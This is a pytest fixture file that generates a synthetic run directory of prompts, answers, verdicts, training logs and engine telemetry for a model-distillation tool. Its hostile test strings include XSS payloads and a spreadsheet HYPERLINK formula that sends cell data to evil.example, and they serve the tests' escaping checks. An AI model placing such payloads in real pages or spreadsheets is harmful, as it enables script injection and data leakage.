"""A small synthetic run directory, hostile texts included. Its numbers are computed from its rows."""

from __future__ import annotations

import json
import random
import shutil
import sys
from collections import Counter
from pathlib import Path
from types import SimpleNamespace

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
import yaml

from shard_dist.artefacts import write_json
from shard_dist.engines.protocol import EngineStats
from shard_dist.engines.telemetry import Telemetry
from shard_dist.engines.worker import Counters
from shard_dist.evaluation.metrics import metrics
from shard_dist.records import Prompt

sys.path.insert(0, str(Path(__file__).parent))  # tests are no package; what two of them need lies beside them

HOSTILE = [
    "</script><script>alert('owned')</script>",
    '<img src="https://evil.example/x.png" onerror=alert(1)> <!-- and <![CDATA[',
    "\x00\x07\x1b[31mred\x1b[0m \x85 \u2028\u2029 \u202eright to left override \r\n tail",
    "ما هي أفضل طريقة لحماية بياناتي؟ " * 3,
    '"><svg onload=alert(2)>{{ 7*7 }}{% raw %} &lt;b&gt; javascript:alert(3)',
    "see https://evil.example/page and //evil.example/x <link rel=stylesheet href=http://evil.example/c.css>",
    "X" * 1_000_000,
    "",
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
]
CATEGORIES = ["Crimes & Illegal Activities", "Fairness & Justice", "Privacy & Property", "Harm & Misuse"]
HOSTILE_CATEGORY = "</script><!--<b onclick=x>\u2028 category"


def write_table(path: Path, rows: list[dict]) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    pq.write_table(pa.Table.from_pylist(rows), path)


def make_prompts(size: int) -> list[dict]:
    rows = []
    for i in range(size):
        split = "test" if i % 5 < 2 else ("val" if i % 5 == 2 else "train")
        text = (
            HOSTILE[i // 5 % len(HOSTILE)]
            if i % 5 == 0 and i // 5 < len(HOSTILE)
            else f"How does topic{i} work, and why do people ask?"
        )
        category = HOSTILE_CATEGORY if i % 17 == 0 else CATEGORIES[i % len(CATEGORIES)]
        row = {
            "dataset": "synthetic",
            "id": str(i),
            "text": text,
            "category": category,
            "subcategory": "",
            "level": i % 4,
        }
        rows.append({**row, "language": "en", "source": "test", "group": "", "split": split, "excluded": ""})
    return rows


def make_answers(root: Path, tests: list[dict], rng: random.Random) -> tuple[list[dict], list[dict]]:
    """Answers and verdicts of both arms, written and returned."""
    answers, verdicts = [], []
    for arm, chance in (("base", 0.85), ("tuned", 0.1)):
        for i, row in enumerate(tests):
            key = {"dataset": row["dataset"], "id": row["id"], "arm": arm}
            refused = row["level"] > 0 and rng.random() < chance
            plain = f"Here is how topic {row['id']} works. " + "It has several parts. " * rng.randrange(1, 50)
            text = "I can't help with that." if refused else plain
            if arm == "tuned" and i < len(HOSTILE):
                text = HOSTILE[i]
            failure = "context_exceeded" if i == 11 else ""
            finish = "length" if i % 19 == 3 else "stop"
            answer = {
                "text": "" if failure else text,
                "thinking": "",
                "finish_reason": "" if failure else finish,
            }
            answers.append({**key, **answer, "failure": failure})
            refusal = rng.choice(["full", "full", "partial"]) if refused else "none"
            topic = rng.choices(["yes", "no", "unparsed"], [93, 6, 1])[0]
            verdict = ("unanswered", "unanswered") if failure else (refusal, topic)
            verdicts.append({**key, "refusal": verdict[0], "on_topic": verdict[1]})
        for name, rows in (("answers", answers), ("verdicts", verdicts)):
            write_table(root / name / f"{arm}.parquet", [row for row in rows if row["arm"] == arm])
    return answers, verdicts


ORDERS = {
    "a": ("first", "second"),
    "b": ("second", "first"),
    "tie": ("tie", "tie"),
    "unparsed": ("unparsed", "tie"),
    "flip": ("first", "first"),
}


def make_pairs(root: Path, tests: list[dict], rng: random.Random) -> list[dict]:
    rows = []
    for i, row in enumerate(tests):
        for question, weights in (("helpfulness", (10, 70, 14, 2, 4)), ("harm", (6, 4, 87, 1, 2))):
            if i == 11:
                continue
            drawn = rng.choices(list(ORDERS), weights)[0]
            pair = {
                "dataset": row["dataset"],
                "id": row["id"],
                "arm_a": "base",
                "arm_b": "tuned",
                "question": question,
            }
            orders = dict(zip(("forward", "backward"), ORDERS[drawn], strict=True))
            rows.append({**pair, **orders, "combined": "tie" if drawn == "flip" else drawn, "reason": HOSTILE[0]})
    write_table(root / "verdicts" / "pairs.parquet", rows)
    return rows


REASONS = ("kept_more_helpful", "kept_more_helpful", "kept_benign_tie", "not_more_helpful", "truncated")
HELPFULNESS = {"kept_more_helpful": "b", "kept_benign_tie": "tie", "not_more_helpful": "a"}
FAILURE = "rewrite_no_valid_json"


def make_records(root: Path, rows: list[dict]) -> dict[str, int]:
    """Records and what select decided; returns the reasons with their counts."""
    records, decisions = [], []
    for i, row in enumerate(rows):
        failure = FAILURE if i % 23 == 5 else ""
        texts = {
            "rewritten_prompt": f"A safer reading of: {row['text'][:2000]}",
            "draft": HOSTILE[i % len(HOSTILE)] if i < len(HOSTILE) else "I can't help with that.",
            "reframed": f"Here is what helps with {row['id']}. " * 12,
            "response_mode": "soft_reframe",
            "preserved_benign_need": "to understand " + HOSTILE[i % 3][:60],
        }
        fields = json.dumps({} if failure else texts)
        records.append({**row, "recipe": "shard", "fields": fields, "calls": "{}", "failure": failure})
        reason = f"failed_{failure}" if failure else REASONS[i % len(REASONS)]
        helpful = HELPFULNESS.get(reason, "")
        decision = {"keep": reason.startswith("kept"), "reason": reason, "helpfulness": helpful}
        key = {"dataset": row["dataset"], "id": row["id"]}
        decisions.append({**key, **decision, "harm": "tie" if helpful else ""})
    half = len(records) // 2
    write_table(root / "records" / "part-0.parquet", records[:half])
    write_table(root / "records" / "part-1.parquet", records[half:])
    write_table(root / "decisions.parquet", decisions)
    return Counter(decision["reason"] for decision in decisions)


def make_selection(root: Path, reasons: dict[str, int]) -> dict[str, int]:
    considered = sum(reasons.values())
    kept = sum(n for reason, n in reasons.items() if reason.startswith("kept"))
    counts = {"considered": considered, "kept": kept, "dropped": considered - kept}
    by_category = {HOSTILE_CATEGORY: {"kept": kept, "dropped": considered - kept}}
    selection = {**counts, "reasons": reasons, "judge": "rule judge", "by_category": by_category}
    write_json(root / "selection.json", selection)
    return counts


def make_manifests(root: Path, splits: dict[str, int], selection: dict[str, int], failed: int) -> None:
    rows, kept = selection["considered"], selection["kept"]
    excluded = {"duplicate_text": 4, "longer_than_context": 3}
    stages = {
        "prompts": (1.2, {"read": sum(splits.values()) + 7, **splits, "excluded": excluded}),
        "generate": (96.0, {"rows": rows, "complete": rows - failed, "failed": {FAILURE: failed}, "calls": 3 * rows}),
        "select": (0.8, selection),
        "train": (141.5, {"steps": 60, "examples": kept - 12, "val_examples": 10, "too_long": 2, "final_loss": 0.31}),
        "evaluate": (71.3, {"prompts": splits["test"], "answers": 2 * splits["test"]}),
    }
    for stage, (seconds, counts) in stages.items():
        made = {"stage": stage, "inputs": {}, "config_hash": "c0ffee" * 8, "git_commit": "0123456789abcdef"}
        write_json(root / f"{stage}.json", {**made, "counts": counts, "seconds": seconds, "notes": [HOSTILE[1]]})


def make_training(root: Path, steps: int, rng: random.Random) -> None:
    """train_metrics.jsonl of two sources, one with a hostile name; a skipped step, a spike, validation each ten."""
    sources = ("demo/synthetic/sft", f"{HOSTILE[0]}/dpo")
    lines = []
    for step in range(1, steps + 1):
        loss = 3.2 * 0.95**step + 0.3 + 0.1 * rng.random()
        line = {"step": step, "total_steps": steps, "loss": loss, "lr": 1e-5, "grad_norm": 1.1, "tokens": 60_000}
        line |= {"supervised_tokens": 21_000, "seconds": 2.0, "tokens_per_second": 30_000.0, "supervised_share": 0.35}
        line |= {"padding_share": 0.02, "mfu": 0.5 + 0.02 * rng.random(), "peak_memory_bytes": 61 * 2**30}
        line |= {"losses": dict(zip(sources, (loss, 0.6 * loss), strict=True)), "dpo_accuracy": 0.8, "dpo_margin": 1.5}
        if step == 20:
            skipped = {"skipped": True, "warning": f"loss nan, gradient norm inf: no update {HOSTILE[1]}"}
            line |= {"loss": float("nan"), "grad_norm": float("inf"), **skipped}
        if step == 41:
            line["warning"] = "loss spike: 2.1, after 0.55 ± 0.06"
        lines.append(line)
        if step % 10 == 0:
            lines.append({"step": step, "val_loss": loss + 0.06, "val_losses": {sources[0]: loss + 0.1}})
    (root / "train_metrics.jsonl").write_text("".join(json.dumps(line) + "\n" for line in lines))


def make_provenance(root: Path) -> None:
    versions = {"python": "3.11.9", "torch": "2.13.0+cpu", "vllm": "0.32.0", "ray": "2.60.0"}
    state = {"git_commit": "0123456789abcdef", "git_dirty": True, "host": "node</title>7"}
    write_json(root / "run.json", {"name": "demo", "created": "2026-01-02T03:04:05Z", **state, "versions": versions})
    config = {
        "models": {"student": {"backend": "vllm", "model": "shard_dist/demo/seed_model"}},
        "select": {"judge": "rule"},
        "evaluate": {"judge": "rule", "confidence": 0.95},
        "note": HOSTILE[0],
    }
    (root / "config.yaml").write_text(yaml.safe_dump(config))


def simulate(path: Path, stage: str, start: float, seconds: int, engines: dict[str, tuple[int, int]]) -> None:
    """Engines, name -> (slots, tokens per second), sampled each second; the clock is ours. Ends as a kill does."""
    now, rng = start, random.Random(stage)
    telemetry = Telemetry(path, stage, clock=lambda: now)
    telemetry.begin("prompts", 20_000, 0)
    totals = {name: (Counters(), EngineStats()) for name in engines}
    lives = {name: f"{name}-{start:.0f}" for name in engines}
    for name in engines:
        telemetry.event("booted", name, "after 31 s")
    for second in range(seconds):
        now = start + second
        for name, (slots, speed) in engines.items():
            counters, stats = totals[name]
            if name == "student-1" and second == 200:
                telemetry.gone(name)
                telemetry.event("died", name, "EngineDeadError: " + HOSTILE[0] + HOSTILE[2])
                totals[name], lives[name] = (Counters(), EngineStats()), f"{name}-second-{start:.0f}"
            if name == "student-1" and 200 <= second < 260:
                continue
            share = min(1.0, second / 20, (seconds - second) / 30) * rng.uniform(0.85, 1.0)
            stats.running, stats.waiting = int(slots * share), int(0.1 * slots * rng.random())
            stats.completion_tokens += int(speed * share)
            stats.prompt_tokens += int(speed * share * 1.7)
            stats.prefix_queries += int(speed * share * 1.7)
            stats.prefix_hits += int(speed * share * 1.4)
            stats.kv_cache_use = 0.61 * share
            counters.made = stats.completion_tokens // 180
            counters.hits = min(40 * second, 900) if name == "student-0" else 0
            counters.calls = counters.made + counters.hits + stats.running
            telemetry.sample(name, lives[name], counters, stats)
    telemetry.event("quarantined", "student-0", f"row 17 killed 3 engines: {HOSTILE[1]}")


def make_engines(root: Path) -> None:
    """engines.jsonl of a run whose generation was killed, went on nine hours later, and then judged."""
    path, start = root / "engines.jsonl", 1_767_322_800.0
    student = {f"student-{number}": (256, 3100 + 50 * number) for number in range(3)}
    simulate(path, "generate", start, 400, student)
    with path.open("a") as stream:
        stream.write('{"kind":"sample","time":17673')
    simulate(path, "generate", start + 33_000, 700, student)
    simulate(path, "evaluate", start + 35_000, 150, {"student-0": (256, 2900), "judge-0": (64, 700)})


def make_run(root: Path, size: int = 200, steps: int = 60, seed: int = 7) -> Path:
    rng = random.Random(seed)
    rows = make_prompts(size)
    write_table(root / "prompts.parquet", rows)
    tests = [row for row in rows if row["split"] == "test"]
    answers, verdicts = make_answers(root, tests, rng)
    pairs = make_pairs(root, tests, rng)
    found = metrics([Prompt(**row) for row in tests], answers, verdicts, pairs)
    judges = {"select": "rule judge", "evaluate": "rule judge", "same": True}
    write_json(root / "metrics.json", {**found, "judges": judges})
    reasons = make_records(root, [row for row in rows if row["split"] != "test"])
    selection = make_selection(root, reasons)
    make_manifests(root, Counter(row["split"] for row in rows), selection, reasons[f"failed_{FAILURE}"])
    make_training(root, steps, rng)
    rules = {category: f"- rule for {category}\n" * 9 for category in (*CATEGORIES, HOSTILE_CATEGORY)}
    write_json(root / "findings" / "guidelines.json", rules)
    make_provenance(root)
    make_engines(root)
    return root


@pytest.fixture(scope="session")
def synthetic() -> SimpleNamespace:
    """What tests need of this file, which cannot be imported under --import-mode=importlib."""
    return SimpleNamespace(
        make_run=make_run,
        write_table=write_table,
        hostile=HOSTILE,
        category=HOSTILE_CATEGORY,
        categories=CATEGORIES,
    )


@pytest.fixture(scope="session")
def pristine(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return make_run(tmp_path_factory.mktemp("pristine") / "run")


@pytest.fixture
def run(pristine: Path, tmp_path: Path) -> Path:
    """A run directory that the test may damage."""
    return shutil.copytree(pristine, tmp_path / "run")
